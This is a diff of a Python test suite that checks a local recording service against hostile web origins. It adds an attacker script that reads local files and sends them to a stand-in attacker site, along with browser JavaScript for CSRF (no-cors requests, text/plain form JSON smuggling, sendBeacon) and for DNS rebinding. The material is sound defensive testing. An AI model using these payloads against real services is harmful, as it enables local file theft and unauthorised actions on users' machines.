+                    s.sendall(with_port(b"GET /edu/apps/a/v2/rooms/slow/records HTTP/1.1\r\n"
+                                        b"Host: 127.0.0.1\r\n", fx.port))
                 socks.append(s)
             except OSError as e:
                 o.notes.append(f"connection {i}: {e}")
@@ -2065,7 +2456,8 @@ def crowd_specs(probe):
 
     def pipelined(fx, o):
         token = b"".join(b"%s: %s\r\n" % (k.encode(), v.encode()) for k, v in fx.headers())
-        one = b"GET /edu/apps/a/v2/rooms/pipe/records HTTP/1.1\r\nHost: x\r\n" + token + b"\r\n"
+        one = with_port(b"GET /edu/apps/a/v2/rooms/pipe/records HTTP/1.1\r\nHost: 127.0.0.1\r\n",
+                        fx.port) + token + b"\r\n"
         last = one[:-2] + b"Connection: close\r\n\r\n"
         sock = socket.create_connection(("127.0.0.1", fx.port), timeout=20)
         data = b""
@@ -2141,7 +2533,8 @@ def auth_specs(probe):
     def big_without_token(fx, o):
         sock = socket.create_connection(("127.0.0.1", fx.port), timeout=15)
         try:
-            sock.sendall(b"POST " + token_fx_path.encode() + b" HTTP/1.1\r\nHost: x\r\n"
+            sock.sendall(b"POST " + token_fx_path.encode() + b" HTTP/1.1\r\n"
+                         b"Host: 127.0.0.1:%d\r\nContent-Type: application/json\r\n" % fx.port +
                          b"Content-Length: 1073741824\r\n\r\n")
             resp = read_response(sock, deadline=time.monotonic() + 10)
         finally:
@@ -2153,9 +2546,286 @@ def auth_specs(probe):
     return specs
 
 
+HARMLESS = ("<!DOCTYPE html>\n<html><head><title>harmless</title></head>"
+            "<body>harmless</body></html>\n")
+EVIL_JS = """(function () {
+  var site = %(site)s;
+  function send (path, text) {
+    var query = '?d=' + encodeURIComponent (String (text).slice (0, 2000))
+                + '&at=' + encodeURIComponent (String (location.href).slice (0, 300));
+    try { new Image ().src = site + path + query; } catch (e) {}
+    try { fetch (site + path + query, { mode: 'no-cors' }); } catch (e) {}
+  }
+  send ('/beacon', 'the attacker script ran');
+  %(files)s.forEach (function (url) {
+    try {
+      var xhr = new XMLHttpRequest ();
+      xhr.open ('GET', url, false);
+      xhr.send ();
+      send (xhr.responseText ? '/exfil' : '/beacon', url + ' ' + xhr.responseText);
+    } catch (e) {
+      send ('/beacon', url + ' refused: ' + e);
+    }
+  });
+}) ();
+"""
+
+
+def canary(probe):
+    """A file the probe planted (path, text): its text must never reach the attacker."""
+    path = probe.workdir / "canary.txt"
+    with probe.lock:
+        if not path.exists():
+            path.write_text("probe-canary-" + os.urandom(8).hex() + "\n")
+    return path, path.read_text().strip()
+
+
+def attacker_site(probe):
+    """The site on 127.0.0.2 shared by the cases: a harmless page, the bundled record page
+    and its SDK stand-in over http, and the attacker's script, which beacons to the site
+    when it runs and sends it what it can read of /etc/hostname and the canary."""
+    path, _ = canary(probe)
+    with probe.lock:
+        if probe.site is None:
+            site = Site()
+            site.add("/harmless.html", HARMLESS)
+            for file in sorted((ROOT / "page").rglob("*")):
+                if file.is_file():
+                    ctype = "text/html; charset=utf-8" if file.suffix == ".html" \
+                        else "text/javascript"
+                    site.add("/page/" + file.relative_to(ROOT / "page").as_posix(),
+                             file.read_bytes(), ctype)
+            evil = EVIL_JS % {"site": json.dumps(site.url),
+                              "files": json.dumps(["file:///etc/hostname", path.as_uri()])}
+            site.add("/evil.js", evil, "text/javascript")
+            (probe.workdir / "evil-file.js").write_text(evil)
+            probe.write_page("harmless", HARMLESS)
+            probe.write_page("file-reader", f"<!DOCTYPE html>\n<title>reader</title>\n"
+                             f"<script>\n{evil}</script>\n")
+            probe.site = site
+        return probe.site
+
+
+def start_body(url, key="rootUrl"):
+    return json.dumps({"mode": "web", "webRecordConfig": {key: url, "videoWidth": 1280,
+                                                          "videoHeight": 720}}).encode()
+
+
+def refused_start(fx, o, url, headers=(), want=None, json_type=True, host=None, key="rootUrl"):
+    """A start that must be refused: answered @want, and no recording in the room."""
+    path = f"/edu/apps/a/v2/rooms/{fx.room()}"
+    data = build_request("PUT", path + "/records/states/1", start_body(url, key),
+                         fx.headers() + list(headers), json_type=json_type)
+    if host is not None:
+        data = data.replace(b"\r\nHost: 127.0.0.1\r\n", b"\r\nHost: " + host + b"\r\n", 1)
+    resp = http_call(fx.port, data, 15)
+    check_envelope(o, resp, fx, want=want, no_2xx=True)
+    started = fx.records(path)
+    if started:
+        o.problem(f"a recording started: {len(started)} in the room's list")
+        fx.stop_rooms([path])
+    return resp
+
+
+def no_cors(o, resp):
+    for name in ("access-control-allow-origin", "access-control-allow-credentials",
+                 "access-control-allow-private-network"):
+        if name in resp.headers:
+            o.problem(f"answered with {name}: {resp.headers[name]}")
+
+
+def guard_specs(probe):
+    """(name, fn(fx, o)): the layers between a web page and the recording API (Host,
+    Origin and CORS, JSON bodies, file pages) and what answers show."""
+    specs = []
+    foreign = [("Origin", "http://evil.test")]
+
+    def add(name, fn):
+        specs.append((name, fn))
+
+    def site_page():
+        return attacker_site(probe).url + "/harmless.html"
+
+    def room_path(fx):
+        return f"/edu/apps/a/v2/rooms/{fx.room()}"
+
+    def call(fx, o, method, path, body=b"", headers=(), host=None, json_type=True, **expect):
+        data = build_request(method, path, body, fx.headers() + list(headers),
+                             json_type=json_type)
+        if host is not None:
+            data = data.replace(b"\r\nHost: 127.0.0.1\r\n",
+                                b"\r\nHost: " + host.encode() + b"\r\n", 1)
+        resp = http_call(fx.port, data, 15)
+        check_envelope(o, resp, fx, **expect)
+        return resp
+
+    for host in ("evil.test:{port}", "evil.test", "127.0.0.1.evil.test:{port}",
+                 "localhost.evil.test:{port}", "127.0.0.2:{port}", "0.0.0.0:{port}",
+                 "[::2]:{port}"):
+        add(f"Host {host.format(port='PORT')}: refused", lambda fx, o, host=host: call(
+            fx, o, "GET", room_path(fx) + "/records", host=host.format(port=fx.port),
+            want={421, 403}))
+    for host in ("127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}"):
+        add(f"Host {host.format(port='PORT')}: answered", lambda fx, o, host=host: call(
+            fx, o, "GET", room_path(fx) + "/records", host=host.format(port=fx.port),
+            want={200, 404}))
+    add("Host evil.test on a start (JSON, no Origin, an http page): refused, nothing started",
+        lambda fx, o: refused_start(fx, o, site_page(), want={421, 403},
+                                    host=b"evil.test:%d" % fx.port))
+
+    def big_bad_host(fx, o):
+        sock = socket.create_connection(("127.0.0.1", fx.port), timeout=15)
+        try:
+            sock.sendall(b"POST " + room_path(fx).encode() + b" HTTP/1.1\r\n"
+                         b"Host: evil.test:%d\r\nContent-Type: application/json\r\n"
+                         b"Content-Length: 1073741824\r\n" % fx.port
+                         + b"".join(b"%s: %s\r\n" % (k.encode(), v.encode())
+                                    for k, v in fx.headers()) + b"\r\n")
+            resp = read_response(sock, deadline=time.monotonic() + 10)
+        finally:
+            sock.close()
+        check_envelope(o, resp, fx, want={421, 403})
+        if resp.elapsed > 3 * probe.scale:
+            o.problem(f"answered after {resp.elapsed:.1f} s: the body was read?")
+    add("Host evil.test with a 1 GB body: refused on its headers", big_bad_host)
+
+    endpoints = [("POST room", "POST", "", b'{"roomName":"n","roomType":4}'),
+                 ("PUT start", "PUT", "/records/states/1", None),
+                 ("PATCH update", "PATCH", "/records/states/1",
+                  b'{"webRecordConfig":{"onHold":false}}'),
+                 ("PUT stop", "PUT", "/records/states/0", b""),
+                 ("GET records", "GET", "/records", b""),
+                 ("GET sequences", "GET", "/sequences?nextId=0", b""),
+                 ("GET health", "GET", None, b"")]
+    for label, method, suffix, body in endpoints:
+        for origin in ("http://evil.test", "null"):
+            if origin == "null" and label not in ("PUT start", "GET records"):
+                continue
+
+            def fn(fx, o, method=method, suffix=suffix, body=body, origin=origin):
+                headers = [("Origin", origin)]
+                if body is None:
+                    resp = refused_start(fx, o, site_page(), headers, want={403})
+                else:
+                    path = "/health" if suffix is None else room_path(fx) + suffix
+                    resp = call(fx, o, method, path, body, headers, want={403})
+                no_cors(o, resp)
+            add(f"{label} with Origin: {origin}: 403, no CORS headers", fn)
+    for label, path in (("GET records", "/edu/apps/a/v2/rooms/r/records"),
+                        ("GET health", "/health")):
+        add(f"{label} without Origin: no CORS headers",
+            lambda fx, o, path=path: no_cors(o, call(fx, o, "GET", path, want={200, 404})))
+    add("GET records with the cloud's own Origin: answered",
+        lambda fx, o: call(fx, o, "GET", room_path(fx) + "/records",
+                           headers=[("Origin", f"http://127.0.0.1:{fx.port}")],
+                           want={200, 404}))
+
+    def cors_kept(fx, o, method, path, body=b"", extra=()):
+        resp = call(fx, o, method, path, body, foreign + list(extra), allow_empty=True)
+        if resp.status == 403 or "access-control-allow-origin" not in resp.headers:
+            o.problem(f"HTTP {resp.status} without Access-Control-Allow-Origin: the SDK's "
+                      f"calls from a page's origin fail")
+    add("GET configs (the SDK's API) from a foreign origin: CORS kept",
+        lambda fx, o: cors_kept(fx, o, "GET", "/edu/apps/a/v2/configs"))
+    add("OPTIONS configs (the SDK's API) from a foreign origin: CORS kept",
+        lambda fx, o: cors_kept(fx, o, "OPTIONS", "/edu/apps/a/v2/configs",
+                                extra=[("Access-Control-Request-Method", "GET")]))
+    add("PUT ready from a foreign origin: CORS kept",
+        lambda fx, o: cors_kept(fx, o, "PUT", room_path(fx) + "/records/ready", b"{}"))
+    for label, suffix, method in (("start", "/records/states/1", "PUT"),
+                                  ("records", "/records", "GET")):
+        for pna in (False, True):
+            extra = [("Access-Control-Request-Method", method),
+                     ("Access-Control-Request-Headers", "content-type")]
+            if pna:
+                extra.append(("Access-Control-Request-Private-Network", "true"))
+
+            def preflight(fx, o, suffix=suffix, extra=extra):
+                no_cors(o, call(fx, o, "OPTIONS", room_path(fx) + suffix, b"",
+                                foreign + extra, allow_empty=True))
+            add(f"OPTIONS {label} from a foreign origin"
+                f"{' (Private Network Access)' if pna else ''}: refused", preflight)
+
+    room_json = b'{"roomName":"n","roomType":4}'
+    for ctype in ("text/plain", "text/plain;charset=UTF-8",
+                  "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
+                  None):
+        headers = [("Content-Type", ctype)] if ctype else []
+        add(f"POST room as {ctype or 'no Content-Type'}: 415",
+            lambda fx, o, headers=headers: call(
+                fx, o, "POST", room_path(fx), room_json, headers, json_type=False,
+                want={415}))
+    add("PUT start as text/plain (an http page): 415, nothing started",
+        lambda fx, o: refused_start(fx, o, site_page(), [("Content-Type", "text/plain")],
+                                    want={415}))
+    add("PUT start without a Content-Type (an http page): 415, nothing started",
+        lambda fx, o: refused_start(fx, o, site_page(), want={415}, json_type=False))
+    add("PATCH update as text/plain: 415",
+        lambda fx, o: call(fx, o, "PATCH", room_path(fx) + "/records/states/1",
+                           b'{"webRecordConfig":{"onHold":false}}',
+                           [("Content-Type", "text/plain")], want={415}))
+    add("POST room as application/json; charset=utf-8: answered",
+        lambda fx, o: call(fx, o, "POST", room_path(fx), room_json,
+                           [("Content-Type", "application/json; charset=utf-8")],
+                           want={200, 409}))
+
+    def file_url(form):
+        attacker_site(probe)  # writes the page
+        path = str(probe.pages / "harmless.html")
+        return {"file:///": "file://" + path, "FILE:///": "FILE://" + path,
+                "file:/": "file:" + path, "file://localhost/": "file://localhost" + path}[form]
+    for form in ("file:///", "FILE:///", "file:/", "file://localhost/"):
+        add(f"PUT start of a {form} page: 400, nothing started",
+            lambda fx, o, form=form: refused_start(fx, o, file_url(form), want={400}))
+    add("PUT start of a file:/// page as url: 400, nothing started",
+        lambda fx, o: refused_start(fx, o, file_url("file:///"), want={400}, key="url"))
+
+    def no_paths(fx, o):
+        path = room_path(fx)
+        resp = call(fx, o, "PUT", path + "/records/states/1", start_body(site_page()),
+                    want={200})
+        answers = []
+        try:
+            time.sleep(3 * probe.scale)
+            answers.append(call(fx, o, "GET", path + "/records"))
+            answers.append(call(fx, o, "GET", path + "/sequences?nextId=0"))
+        finally:
+            answers.append(call(fx, o, "PUT", path + "/records/states/0"))
+        answers.append(call(fx, o, "GET", path + "/records"))
+        for resp in [resp] + answers:
+            text = urllib.parse.unquote(resp.body.decode("utf-8", "replace"))
+            for disk in {str(probe.workdir), str(probe.workdir.resolve()),
+                         str(fx.data_dir)}:
+                if disk in text:
+                    at = text.index(disk)
+                    o.problem(f"an answer without the token shows a path of the cloud's disk: "
+                              f"{text[max(0, at - 20):at + 80]!r}")
+                    return
+    add("a recording's answers without the token hold no path of the cloud's disk", no_paths)
+    return specs
+
+
+def token_specs(probe):
+    """(name, fn(fx, o)) for clouds whose token comes from the environment or a file."""
+    def call(fx, o, headers, want):
+        resp = http_call(fx.port, build_request("GET", "/edu/apps/a/v2/rooms/r/records", b"",
+                                                headers), 15)
+        check_envelope(o, resp, fx, want=want)
+    return [("GET records without the token: 401", lambda fx, o: call(fx, o, [], {401})),
+            ("GET records with the token: answered",
+             lambda fx, o: call(fx, o, fx.headers(), {200, 404}))]
+
+
 def cloud_api_cases(probe):
     open_fx = CloudFixture(probe, "api")
     token_fx = CloudFixture(probe, "api-token", token="probe-cloud-token-4f9a")
+    token_file = probe.workdir / "cloud-token"
+    token_file.write_text("probe-file-token-8c1e\n")
+    env_fx = CloudFixture(probe, "api-env-token", token="probe-env-token-27d0",
+                          env={"RECORDHOST_CLOUD_TOKEN": "probe-env-token-27d0"})
+    file_fx = CloudFixture(probe, "api-token-file", token="probe-file-token-8c1e",
+                           extra=[f"--token-file={token_file}"])
+    host_fx = CloudFixture(probe, "api-allowed-host", extra=["--allowed-host=probe.test"])
     cases = []
 
     def wrap(fx, label, fn, name):
@@ -2186,6 +2856,21 @@ def cloud_api_cases(probe):
     for label, fn in auth_specs(probe):
         name = f"cloud-api/with token: {label}"
         cases.append(Case("cloud-api", name, wrap(token_fx, label, fn, name), quick=True))
+    for i, (label, fn) in enumerate(guard_specs(probe)):
+        name = f"cloud-api/{label}"
+        cases.append(Case("cloud-api", name, wrap(open_fx, label, fn, name), quick=i % 3 == 0))
+    for fx, how in ((env_fx, "RECORDHOST_CLOUD_TOKEN"), (file_fx, "--token-file")):
+        for label, fn in token_specs(probe):
+            name = f"cloud-api/token from {how}: {label}"
+            cases.append(Case("cloud-api", name, wrap(fx, label, fn, name), quick=True))
+    for host, want in (("probe.test", {200, 404}), ("other.test", {421, 403})):
+        def allowed(fx, o, host=host, want=want):
+            data = build_request("GET", "/edu/apps/a/v2/rooms/r/records").replace(
+                b"Host: 127.0.0.1", b"Host: %s:%d" % (host.encode(), fx.port))
+            check_envelope(o, http_call(fx.port, data, 15), fx, want=want)
+        name = (f"cloud-api/--allowed-host probe.test: Host {host} "
+                f"{'answered' if host == 'probe.test' else 'refused'}")
+        cases.append(Case("cloud-api", name, wrap(host_fx, host, allowed, name), quick=True))
     for i, (label, fn) in enumerate(big_body_specs(probe)):
         for fx in (open_fx, token_fx):
             prefix = "with token: " if fx.token else ""
@@ -2229,15 +2914,16 @@ def cloud_api_cases(probe):
     case.alone = True
     cases.append(case)
 
-    for fx in (open_fx, token_fx):
+    for fx in (open_fx, token_fx, env_fx, file_fx, host_fx):
         def stop(fx=fx):
             name = f"cloud-api/{fx.label}: alive at the end, SIGTERM exits 0"
             o = Outcome("cloud-api", name)
             o.repro = fx.argv_hint() + "   # then the cases above, then kill -TERM"
-            if fx.proc is None:
-                if not fx.ensure():
-                    o.problem(fx.error)
-                    return [o]
+            if fx.proc is None and fx not in (open_fx, token_fx):
+                return []  # none of its cases ran
+            if fx.error is not None or (fx.proc is None and not fx.ensure()):
+                o.problem(fx.error)
+                return [o]
             if not check_alive(o, fx):
                 run = fx.proc.finish(0)
                 judge(o, run)
@@ -2419,6 +3105,8 @@ def cloud_kill_job(probe, sig, after_s, names):
         data_dir = Path(probe.tmpname("cloud-killed") + ".data")
         data_dir.mkdir(parents=True)
         argv = ["cloud", "--listen=127.0.0.1:0", f"--data-dir={data_dir}"]
+        if probe.cloud_knows("allow-file-pages"):
+            argv.append("--allow-file-pages")
         proc = probe.proc(argv, name="cloud-killed")
         hint = probe.command(argv)
         for o in outcomes:
@@ -2520,7 +3208,8 @@ def cloud_kill_job(probe, sig, after_s, names):
                 o.problem("fileState written, no files")
             for f in files:
                 before = len(o.lost)
-                check_recording(o, f, recorded, "the listed file")
+                # A call without the token gets the file's name in the data directory.
+                check_recording(o, data_dir / f, recorded, "the listed file")
                 if state == "written" and len(o.lost) > before:
                     o.lost[-1] += " (listed as written)"
             if not files:
@@ -2753,6 +3442,385 @@ def secret_cases(probe):
 
 
 # ---------------------------------------------------------------------------------------
+# 7. the local cloud from a hostile web origin
+
+
+CHROMIUM_HINT = "apt-get install -y --no-install-recommends chromium"
+ATTACK_ROOMS = "/edu/apps/hostile/v2/rooms/"
+SIMPLE_ROOMS = ["nocors", "nocors-put", "nocors-room", "blob", "blob-room", "beacon-room",
+                "form", "form-room"]
+ATTACK_COMMON_JS = """
+var CLOUD = %(cloud)s, SITE = %(site)s, PAGE = %(page)s, TAG = %(tag)s;
+function room (name) { return '/edu/apps/hostile/v2/rooms/' + TAG + '-' + name; }
+var START = JSON.stringify ({ mode: 'web', webRecordConfig: {
+  rootUrl: PAGE + '?sdkBundle=' + encodeURIComponent (SITE + '/evil.js'),
+  videoWidth: 1280, videoHeight: 720 } });
+var ROOM = JSON.stringify ({ roomName: 'x', roomType: 4 });
+function report (step, data) {
+  data.step = step;
+  data.tag = TAG;
+  return fetch (SITE + '/report', { method: 'POST', mode: 'no-cors',
+                                    body: JSON.stringify (data) }).catch (function () {});
+}
+function within (promise, ms) {
+  return Promise.race ([promise, new Promise (function (resolve) {
+    setTimeout (function () { resolve ({ error: 'no answer within ' + ms + ' ms' }); }, ms);
+  })]);
+}
+async function attempt (step, url, init) {
+  var result = await within ((async function () {
+    try {
+      var response = await fetch (url, init);
+      var text = await response.text ();
+      return { type: response.type, status: response.status, body: text.slice (0, 300) };
+    } catch (e) {
+      return { error: String (e) };
+    }
+  }) (), 8000);
+  await report (step, result);
+}
+/* A form posting NAME=VALUE as text/plain: with NAME ending in '"x":"' and VALUE '"}',
+ * the body is the JSON the attacker wants. */
+function form (step, url, enctype, name, value) {
+  var frame = document.createElement ('iframe');
+  frame.name = 'frame-' + step.replace (/\\W/g, '');
+  document.body.appendChild (frame);
+  var f = document.createElement ('form');
+  f.method = 'POST';
+  f.action = url;
+  f.enctype = enctype;
+  f.target = frame.name;
+  var input = document.createElement ('input');
+  input.name = name;
+  input.value = value;
+  f.appendChild (input);
+  document.body.appendChild (f);
+  f.submit ();
+  return report (step, { sent: true });
+}
+function json_form (text) { return text.slice (0, text.lastIndexOf ('}')) + ',"x":"'; }
+"""
+ATTACK_MAIN_JS = """
+async function main () {
+  var frame = document.createElement ('iframe');
+  frame.src = %(rebind)s + '/rebind.html';
+  document.body.appendChild (frame);
+  await attempt ('control', CLOUD + '/edu/apps/hostile/v2/configs', {});
+  await attempt ('no-cors text/plain POST start', CLOUD + room ('nocors') + '/records/states/1',
+                 { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' },
+                   body: START });
+  await attempt ('no-cors PUT start', CLOUD + room ('nocors-put') + '/records/states/1',
+                 { method: 'PUT', mode: 'no-cors', body: START });
+  await attempt ('no-cors text/plain POST room', CLOUD + room ('nocors-room'),
+                 { method: 'POST', mode: 'no-cors', body: ROOM });
+  await attempt ('no-cors Blob POST start', CLOUD + room ('blob') + '/records/states/1',
+                 { method: 'POST', mode: 'no-cors', body: new Blob ([START]) });
+  await attempt ('no-cors Blob POST room', CLOUD + room ('blob-room'),
+                 { method: 'POST', mode: 'no-cors', body: new Blob ([ROOM]) });
+  await report ('sendBeacon POST room',
+                { sent: navigator.sendBeacon (CLOUD + room ('beacon-room'), ROOM) });
+  await form ('form text/plain POST start', CLOUD + room ('form') + '/records/states/1',
+              'text/plain', json_form (START), '"}');
+  await form ('form text/plain POST room', CLOUD + room ('form-room'), 'text/plain',
+              json_form (ROOM), '"}');
+  await attempt ('preflighted JSON PUT start', CLOUD + room ('json') + '/records/states/1',
+                 { method: 'PUT', headers: { 'Content-Type': 'application/json' },
+                   body: START });
+  await attempt ('cross-origin GET records', CLOUD + room ('json') + '/records', {});
+  await new Promise (function (resolve) { setTimeout (resolve, 1500); });
+  await report ('done', {});
+}
+main ();
+"""
+REBIND_MAIN_JS = """
+async function main () {
+  await attempt ('rebinding PUT start', room ('rebind') + '/records/states/1',
+                 { method: 'PUT', headers: { 'Content-Type': 'application/json' },
+                   body: START });
+  await attempt ('rebinding GET records', room ('rebind') + '/records', {});
+  await report ('rebind-done', {});
+}
+main ();
+"""
+
+
+def chromium():
+    return shutil.which("chromium")
+
+
+def run_chromium(probe, url, rules, until, bound):
+    """Headless Chromium on @url until @until() or @bound seconds: a browser an attacker's
+    page runs in, as a user's would."""
+    profile = Path(probe.tmpname("chromium") + ".profile")
+    profile.mkdir()
+    argv = [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+            "--disable-background-networking", "--disable-component-update", "--disable-sync",
+            "--disable-default-apps", "--mute-audio", f"--user-data-dir={profile}",
+            f"--host-resolver-rules={rules}", url]
+    proc = Proc(probe, argv, name="chromium")
+    deadline = time.monotonic() + bound * probe.scale
+    while time.monotonic() < deadline and proc.alive() and not until():
+        time.sleep(0.2)
+    finished = until()
+    run = proc.finish(0)
+    shutil.rmtree(profile, ignore_errors=True)
+    return run, finished
+
+
+def script_runs(site, room):
+    """The attacker script's beacons and leaks from the page of @room."""
+    def mine(hits):
+        return [h for h in hits if room in urllib.parse.unquote_plus(h[1])]
+    return mine(site.hits_to("/beacon")), mine(site.hits_to("/exfil"))
+
+
+def judge_script(o, site, room, secret, own=False):
+    """@own: the script is the page's own, which may run but not read other files."""
+    beacons, leaks = script_runs(site, room)
+    ran = [urllib.parse.unquote_plus(h[1]) for h in beacons if "script ran" in
+           urllib.parse.unquote_plus(h[1])]
+    if ran and not own:
+        o.problem(f"the attacker's script ran in the cloud's page ({len(ran)} beacon(s))")
+    if leaks:
+        o.problem(f"{len(leaks)} file(s) read and sent to the attacker, e.g. "
+                  f"{urllib.parse.unquote_plus(leaks[0][1])[:160]!r}")
+    o.secrets += len([h for h in site.holding(secret) if room in
+                      urllib.parse.unquote_plus(h[1])])
+
+
+def chain_job(probe, fx, names):
+    """One Chromium run of the attacker's page against the cloud: every outcome in
+    @names is judged from it."""
+    def case():
+        outcomes = {n: Outcome("hostile-origin", n) for n in names}
+        chain, simple, host_alone, cors_alone = outcomes.values()
+        for o in outcomes.values():
+            o.repro = probe.rerun(o.name) + "   # against: " + fx.argv_hint()
+        if not fx.ensure():
+            for o in outcomes.values():
+                o.problem(fx.error)
+            return list(outcomes.values())
+        site = attacker_site(probe)
+        _, secret = canary(probe)
+        tag = "chain-" + os.urandom(3).hex()
+        common = ATTACK_COMMON_JS % {
+            "cloud": json.dumps(f"http://127.0.0.1:{fx.port}"), "site": json.dumps(site.url),
+            "page": json.dumps(probe.page.as_uri()), "tag": json.dumps(tag)}
+        site.add(f"/{tag}.html", "<!DOCTYPE html>\n<title>attacker</title>\n<body><script>"
+                 + common + ATTACK_MAIN_JS % {"rebind": json.dumps(f"http://evil.test:{fx.port}")}
+                 + "</script></body>\n")
+        # The attacker's name, once rebound, leads to the cloud: a relay on 127.0.0.3, at the
+        # cloud's port, serves the attacker's page and passes every other request on.
+        relay = Site(host="127.0.0.3", port=fx.port, forward=fx.port)
+        relay.add("/rebind.html", "<!DOCTYPE html>\n<title>rebound</title>\n<body><script>"
+                  + common + REBIND_MAIN_JS + "</script></body>\n")
+        try:
+            def finished():
+                steps = {r.get("step") for r in site.reports() if r.get("tag") == tag}
+                return {"done", "rebind-done"} <= steps
+            run, done = run_chromium(probe, f"{site.url}/{tag}.html",
+                                     "MAP evil.test 127.0.0.3", finished, 60)
+        finally:
+            relay.close()
+        chain.notes.append(f"Chromium ran {run.elapsed:.1f} s")
+        if not done:
+            chain.problem("the attacker's page did not finish within 60 s (Chromium: "
+                          + run.err.decode("utf-8", "replace").strip()[-200:] + ")")
+        reports = {r.get("step"): r for r in site.reports() if r.get("tag") == tag}
+        control = reports.get("control", {})
+        if control.get("type") != "cors" or control.get("status") != 200:
+            for o in outcomes.values():
+                o.problem(f"the control call (the SDK's configs, CORS kept) failed in Chromium: "
+                          f"{control}: the browser, not the cloud, stopped the requests")
+        rooms = {name: ATTACK_ROOMS + f"{tag}-{name}"
+                 for name in SIMPLE_ROOMS + ["json", "rebind"]}
+        found = {name: fx.records(path) for name, path in rooms.items()}
+        started = [n for n, r in found.items() if r]
+        if started:
+            deadline = time.monotonic() + 20 * probe.scale
+            while time.monotonic() < deadline and not script_runs(site, tag)[0]:
+                time.sleep(0.5)
+            time.sleep(2)
+        fx.stop_rooms([rooms[n] for n in started])
+        for o in (chain, simple):
+            names_in = [n for n in started if o is chain or n in SIMPLE_ROOMS]
+            if names_in:
+                o.problem("a recording started from " + ", ".join(names_in))
+        created = [n for n in SIMPLE_ROOMS if found[n] is not None]
+        if created:
+            simple.problem("a room was created by " + ", ".join(created))
+        for step, r in reports.items():
+            if step in ("control", "done", "rebind-done") or not isinstance(step, str):
+                continue
+            if step.startswith("rebinding"):
+                if "status" in r and r["status"] not in (421, 403):
+                    text = f"{step} reached the API: HTTP {r['status']} {r.get('body', '')[:100]!r}"
+                    chain.problem(text)
+                    if step == "rebinding GET records":
+                        host_alone.problem(text)
+            elif r.get("type") == "cors":
+                text = (f"the attacker's page read the answer to {step}: HTTP {r['status']} "
+                        f"{r.get('body', '')[:100]!r}")
+                chain.problem(text)
+                if step == "cross-origin GET records":
+                    cors_alone.problem(text)
+        if "rebinding GET records" not in reports:
+            host_alone.problem("the rebinding page never reported")
+        if "cross-origin GET records" not in reports:
+            cors_alone.problem("the attacker's page never reported")
+        judge_script(chain, site, tag, secret)
+        chain.notes.append("; ".join(f"{k}: {v.get('status', v.get('error', v.get('sent')))}"
+                                     for k, v in reports.items()))
+        return list(outcomes.values())
+    return case
+
+
+def script_case(probe, fx, name, url_of, wait_for_page):
+    """A start the cloud may accept, of a page whose attacker's script or own script must
+    not run, or must not read files: judged on the site's beacons."""
+    def case():
+        o = Outcome("hostile-origin", name)
+        o.repro = probe.rerun(name) + "   # against: " + fx.argv_hint()
+        if not fx.ensure():
+            o.problem(fx.error)
+            return [o]
+        site = attacker_site(probe)
+        _, secret = canary(probe)
+        room = "script-" + os.urandom(3).hex()
+        path = f"/edu/apps/a/v2/rooms/{room}"
+        resp = api(fx.port, "PUT", path + "/records/states/1", start_body(url_of(site)),
+                   fx.headers())
+        if resp.status is None or not 200 <= resp.status < 300:
+            check_envelope(o, resp, fx)
+            o.notes.append(f"start refused: HTTP {resp.status}")
+            if not wait_for_page:
+                o.problem(f"start of a file page with --allow-file-pages answered "
+                          f"{resp.status}: {resp.body[:120]!r}")
+            return [o]
+        deadline = time.monotonic() + 25 * probe.scale
+        ready = False
+        try:
+            while time.monotonic() < deadline:
+                beacons, leaks = script_runs(site, room)
+                if leaks or any("script ran" in urllib.parse.unquote_plus(h[1])
+                                for h in beacons):
+                    break
+                if not wait_for_page and len(beacons) >= 2:
+                    break
+                events = api(fx.port, "GET", path + "/sequences?nextId=0&cmd=1001", None,
+                             fx.headers())
+                if b'"reason":1' in events.body:
+                    ready = True
+                    time.sleep(3)
+                    break
+                time.sleep(0.5)
+            time.sleep(1)
+        finally:
+            fx.stop_rooms([path])
+        judge_script(o, site, room, secret, own=not wait_for_page)
+        beacons, leaks = script_runs(site, room)
+        if wait_for_page and not ready and not o.problems:
+            o.problem("in 25 s neither the attacker's script nor the page's SDK ran: "
+                      "cannot tell")
+        if not wait_for_page and not beacons and not leaks:
+            o.problem("the file page's script never reported: cannot tell")
+        o.notes.append(f"{len(beacons)} beacon(s), {len(leaks)} leak(s)")
+        return [o]
+    return case
+
+
+def layer_start(probe, fx, how):
+    def fn(o):
+        site = attacker_site(probe)
+        page = site.url + "/harmless.html"
+        if how == "host":
+            resp = refused_start(fx, o, page, want={421, 403}, host=b"evil.test:%d" % fx.port)
+        elif how == "origin":
+            resp = refused_start(fx, o, page, [("Origin", site.url)], want={403})
+        elif how == "null":
+            resp = refused_start(fx, o, page, [("Origin", "null")], want={403})
+        elif how == "type":
+            resp = refused_start(fx, o, page, [("Content-Type", "text/plain;charset=UTF-8")],
+                                 want={415})
+        else:
+            resp = refused_start(fx, o, (probe.pages / "harmless.html").as_uri(), want={400})
+        no_cors(o, resp)
+    return fn
+
+
+def hostile_origin_cases(probe):
+    if not chromium():
+        probe.not_run["hostile-origin"] = f"no chromium: install it with `{CHROMIUM_HINT}`"
+        return []
+    fx = CloudFixture(probe, "origin")
+    files_fx = CloudFixture(probe, "origin-files", file_pages=True)
+    cases = []
+    names = ["hostile-origin/Chromium on another origin: the whole chain (nothing started, "
+             "no attacker script, nothing read, nothing leaked)",
+             "hostile-origin/Chromium: simple requests (no-cors text/plain and Blob, "
+             "sendBeacon, text/plain forms) start nothing and create no room",
+             "hostile-origin/Chromium, Host check alone: a rebinding GET of the records list "
+             "(same origin: no Origin, no body)",
+             "hostile-origin/Chromium, Origin and CORS alone: a cross-origin GET of the records "
+             "list (the cloud's Host, no body)"]
+    case = Case("hostile-origin", names[0], chain_job(probe, fx, names), quick=True)
+    case.names = names
+    case.alone = True
+    cases.append(case)
+    for how, label in (
+            ("host", "Host check alone: a start with Host evil.test, a JSON body, no Origin, "
+                     "an http page"),
+            ("origin", "Origin check alone: a start with the cloud's Host, a JSON body, "
+                       "Origin http://127.0.0.2, an http page"),
+            ("null", "Origin check alone: a start as above with Origin: null"),
+            ("type", "content type alone: a start with the cloud's Host, no Origin, "
+                     "text/plain, an http page"),
+            ("file", "file pages alone: a start with everything right but a file: page")):
+        name = f"hostile-origin/{label}"
+
+        def layer(name=name, fn=layer_start(probe, fx, how)):
+            o = Outcome("hostile-origin", name)
+            o.repro = probe.rerun(name) + "   # against: " + fx.argv_hint()
